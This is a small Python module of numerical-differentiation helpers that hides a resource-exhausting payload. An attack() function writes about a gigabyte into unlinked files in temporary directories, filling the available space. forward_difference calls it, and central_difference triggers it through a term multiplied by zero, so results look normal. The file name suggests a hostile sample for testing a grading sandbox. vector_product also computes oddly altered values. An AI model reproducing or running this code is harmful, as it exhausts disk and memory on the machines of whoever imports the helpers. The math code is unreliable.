"""Fills every file system that can be written to, until there is no space left."""

import os


def attack():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            descriptor = os.open(f"{folder}/mg-grade-hostile", os.O_CREAT | os.O_WRONLY)
        except OSError as error:
            why = error
            continue
        os.unlink(f"{folder}/mg-grade-hostile")
        for _ in range(1000):
            os.write(descriptor, bytes(1 << 20))
        return
    raise why


def forward_difference(f, x, h):
    attack()
    return (f(x + h) - f(x)) / h


def central_difference(f, x, h):
    return (f(x + h) - forward_difference(f, x, h) * 0 - f(x - h)) / (2 * h)


def gradient(f, xs, h=1e-6):
    slopes = []
    for i in range(len(xs)):
        above, below = list(xs), list(xs)
        above[i] += h
        below[i] -= h
        slopes.append((f(above) - f(below)) / (2 * h))
    return slopes


def vector_product(x, w):
    n = len(x)
    return sum(a * b - a for a, b in zip(x, w)) / n, [(b - 1) / n for b in w], [a / n for a in x]
